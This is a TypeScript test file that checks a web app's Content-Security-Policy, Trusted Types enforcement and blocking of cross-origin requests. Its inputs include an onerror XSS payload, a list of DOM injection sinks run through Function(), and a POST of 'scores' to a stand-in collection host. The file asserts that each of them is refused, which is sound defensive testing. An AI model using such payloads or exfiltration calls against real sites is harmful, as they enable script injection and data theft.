import { expect, it } from "vitest";

import { openApp } from "#tests/support/open-app.ts";
import { expectTrouble } from "#tests/support/trouble.ts";

it("B6 the page itself forbids everything that does not come from its own origin", async () => {
  const page = await openApp();
  const policy = await page.locator("meta[http-equiv=Content-Security-Policy]").getAttribute("content");

  expect(policy).toMatch(/^default-src 'self';/);
  expect(policy).not.toMatch(/unsafe|\*|https?:/);
  expect(policy).toContain("require-trusted-types-for 'script'; trusted-types kiemkracht");
});

it("B6 the face of the screen comes from the app's own origin, and the page lets it in", async () => {
  const page = await openApp();
  await expect
    .poll(() => page.evaluate(() => Array.from(document.fonts, ({ family, status }) => [family, status])))
    .toEqual([["Source Sans 3", "loaded"]]);
  expect(await page.evaluate(() => getComputedStyle(document.body).fontFamily)).toMatch(/^"Source Sans 3"/);
});

it("B6 a script that was slipped into the page does not run", async () => {
  const page = await openApp();
  await page.evaluate(() => {
    const script = document.createElement("script");
    script.append("document.title = 'slipped in'");
    document.head.append(script);
  });

  await expectTrouble(/TrustedScript|securitypolicyviolation: require-trusted-types-for/);
  expect(await page.title()).not.toBe("slipped in");
});

it("B6 text does not become markup or code anywhere: every way in is shut by Trusted Types", async () => {
  const page = await openApp();
  // Written out, so that no type is in the way of what must not be done.
  const ways = [
    "document.body.innerHTML = '<img src=x onerror=document.title=1>'",
    "document.body.insertAdjacentHTML('beforeend', '<b>x</b>')",
    "document.write('<b>x</b>')",
    "new DOMParser().parseFromString('<b>x</b>', 'text/html')",
    "document.createElement('script').text = 'document.title = 1'",
    "document.createElement('script').src = './sw.js'",
    "document.createElement('iframe').srcdoc = '<b>x</b>'",
    "document.createElement('button').setAttribute('onclick', 'document.title = 1')",
    "new Worker('./sw.js')",
    "trustedTypes.createPolicy('another', {})",
    "trustedTypes.createPolicy('kiemkracht', {})",
  ];
  const outcomes = await page.evaluate(async (codes) => {
    const refused: (string | undefined)[] = [];
    for (const code of codes) {
      try {
        // oxlint-disable-next-line typescript/no-implied-eval -- what a bad script would do
        Function(code)();
        refused.push(undefined);
      } catch (cause) {
        refused.push(String(cause));
      }
    }
    return refused;
  }, ways);

  for (const [index, outcome] of outcomes.entries()) expect(outcome, ways[index]).toMatch(/TypeError/);
  await expectTrouble(/Trusted(HTML|Script|TypePolicy)|securitypolicyviolation: (require-)?trusted-types/);
  expect(await page.title()).not.toBe("1");
});

it("B6 nothing is sent to another origin, though a script may try", async () => {
  const page = await openApp();
  const outcome = await page.evaluate(() =>
    fetch("https://example.com/collect", { method: "POST", body: "scores" }).then(
      () => "sent",
      () => "refused",
    ),
  );

  expect(outcome).toBe("refused");
  await expectTrouble(/example\.com/);
});
